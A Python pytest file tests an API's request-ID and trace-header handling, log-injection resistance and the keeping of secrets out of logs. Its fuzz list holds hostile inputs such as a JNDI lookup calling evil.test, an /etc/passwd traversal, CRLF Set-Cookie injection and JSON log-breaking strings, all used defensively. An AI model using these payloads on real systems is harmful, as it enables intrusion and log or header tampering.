"""C16: every request has an ID and optionally a trace, and no input can break the log."""

from collections.abc import Mapping

import pytest

from tests.api.caller import Caller, rejected
from tests.api.conftest import Log

TRACE = "4bf92f3577b34da6a3ce929d0e0e4736"
PARENT = "00f067aa0ba902b7"
HOSTILE = [
    "",
    "short-7",
    "a" * 129,
    "a" * 10240,
    "with space",
    "tab\tinside",
    "quo\"te-quote'",
    '"}\n{"level":"ERROR"',
    "abcdefgh\r\nSet-Cookie: a=b",
    "abcdefgh%0d%0aSet-Cookie:a=b",
    "\x00abcdefgh",
    "\x1b[31mabcdefgh",
    "\x7fabcdefgh",
    "caf\u00e9-caf\u00e9",
    "abcdefgh\n",
    "${jndi:ldap://evil.test/a}",
    "../../../etc/passwd",
    "abcdefgh, abcdefgh",
]


class TestRequestId:
    """Kept if valid, otherwise replaced."""

    @pytest.mark.parametrize("sent", ["abcdefgh", "A.b_c-9.", "0" * 128, "5f0c9a7e-41d8-4f6c-b7a0-e2d31c9b8a64"])
    def test_a_valid_id_is_kept(self, unauthenticated: Caller, log: Log, sent: str) -> None:
        """C16: it is in the response, in the problem document, and in every log entry of the request."""
        response = unauthenticated.get("/v1/nothing", headers={"X-Request-Id": sent})
        assert response.headers["X-Request-Id"] == response.headers["Request-Id"] == sent
        assert rejected(response, 404, "ROUTE_NOT_FOUND")["request_id"] == sent
        assert {line["request_id"] for line in log.access + log.errors} == {sent}

    @pytest.mark.parametrize("sent", HOSTILE, ids=lambda sent: ascii(sent)[:25])
    @pytest.mark.parametrize("name", ["X_REQUEST_ID", "REQUEST_ID", "X_TRACE_ID"])
    def test_an_invalid_id_is_replaced_and_the_log_stays_valid(
        self, unauthenticated: Caller, log: Log, name: str, sent: str
    ) -> None:
        """One access entry and one error entry, each one valid JSON object."""
        response = unauthenticated.get("/v1/nothing", environ_overrides={f"HTTP_{name}": sent})
        answered = response.headers["X-Request-Id"]
        assert answered != sent
        assert len(response.headers.getlist("X-Request-Id")) == 1
        assert (len(log.access), len(log.errors)) == (1, 1)
        assert {line["request_id"] for line in log.access + log.errors} == {answered}

    @pytest.mark.parametrize(
        ("sent", "kept"),
        [
            ({"X-Request-Id": "first-id", "Request-Id": "second-id", "X-Trace-Id": "third-id"}, "first-id"),
            ({"X-Request-Id": "bad", "Request-Id": "second-id", "X-Trace-Id": "third-id"}, "second-id"),
            ({"Request-Id": "bad", "X-Trace-Id": "third-id"}, "third-id"),
            ({"X-Trace-Id": "third-id"}, "third-id"),
        ],
    )
    def test_the_first_valid_id_of_three_fields_is_kept(
        self, unauthenticated: Caller, sent: Mapping[str, str], kept: str
    ) -> None:
        """C16."""
        assert unauthenticated.get("/healthz", headers=sent).headers["Request-Id"] == kept

    def test_requests_without_one_get_different_ones(self, unauthenticated: Caller) -> None:
        """C16."""
        assert len({unauthenticated.get("/healthz").headers["X-Request-Id"] for _ in range(50)}) == 50

    def test_an_id_is_not_reused_for_the_next_request(self, unauthenticated: Caller) -> None:
        """C16: no data of one request is available in the next."""
        unauthenticated.get("/healthz", headers={"X-Request-Id": "first-id", "Traceparent": f"00-{TRACE}-{PARENT}-01"})
        response = unauthenticated.get("/v1/nothing")
        assert response.headers["X-Request-Id"] != "first-id"
        assert "trace_id" not in rejected(response, 404, "ROUTE_NOT_FOUND")


class TestHostileText:
    """Other text of callers in the log."""

    @pytest.mark.parametrize("path", ["/v1/%0a%0d", "/v1/%1b[31m", "/v1/%22%7D%0A%7B", "/v1/%00", "/v1/%ff%e2%80%a8"])
    def test_a_hostile_path_stays_within_its_entry(self, unauthenticated: Caller, log: Log, path: str) -> None:
        """One line, one object."""
        rejected(unauthenticated.get(path), 404, "ROUTE_NOT_FOUND")
        assert (len(log.lines), len(log.access), len(log.errors)) == (2, 1, 1)

    def test_neither_token_nor_body_nor_query_is_logged(self, alice: Caller, log: Log) -> None:
        alice.create("hunter2")
        alice.list_tasks(filter='title = "hunter2"')
        alice.post(data=b'{"hunter2', content_type="application/json")
        alice.create("ok", tags=["HUNTER2!"])
        alice.get("/v1/tasks?access_token=hunter2")
        token = alice.credentials["Authorization"].split()[1]
        assert not any(secret in line for line in log.lines for secret in ("hunter2", "HUNTER2", token))


class TestTraceparent:
    """W3C Trace Context: continued if it is well formed."""

    @pytest.mark.parametrize("version", ["00", "01", "cc"])
    @pytest.mark.parametrize("flags", ["00", "01"])
    def test_the_trace_is_continued(self, unauthenticated: Caller, log: Log, version: str, flags: str) -> None:
        """C16, C1."""
        sent = {"Traceparent": f"{version}-{TRACE}-{PARENT}-{flags}"}
        assert rejected(unauthenticated.get("/v1/nothing", headers=sent), 404, "ROUTE_NOT_FOUND")["trace_id"] == TRACE
        assert {line["trace_id"] for line in log.access + log.errors} == {TRACE}

    def test_a_later_version_may_have_more_fields(self, unauthenticated: Caller) -> None:
        """C16: Trace Context, section 3.2.4."""
        sent = {"Traceparent": f"01-{TRACE}-{PARENT}-01-what-the-future-will-bring"}
        assert rejected(unauthenticated.get("/v1/nothing", headers=sent), 404, "ROUTE_NOT_FOUND")["trace_id"] == TRACE

    @pytest.mark.parametrize(
        "sent",
        [
            "",
            f"ff-{TRACE}-{PARENT}-01",
            f"00-{'0' * 32}-{PARENT}-01",
            f"00-{TRACE}-{'0' * 16}-01",
            f"00-{TRACE.upper()}-{PARENT}-01",
            f"00-{TRACE}-{PARENT}",
            f"00-{TRACE}-{PARENT}-01-more",
            f"00-{TRACE[1:]}-{PARENT}-01",
            f"00-{TRACE}-{PARENT}-zz",
            f"00-{TRACE}-{PARENT}-01\n",
            f"00-{TRACE}-{PARENT}-01, 00-{TRACE}-{PARENT}-01",
            '"}\n{',
        ],
    )
    def test_a_malformed_field_is_ignored(self, unauthenticated: Caller, sent: str) -> None:
        """C16."""
        response = unauthenticated.get("/v1/nothing", environ_overrides={"HTTP_TRACEPARENT": sent})
        assert "trace_id" not in rejected(response, 404, "ROUTE_NOT_FOUND")
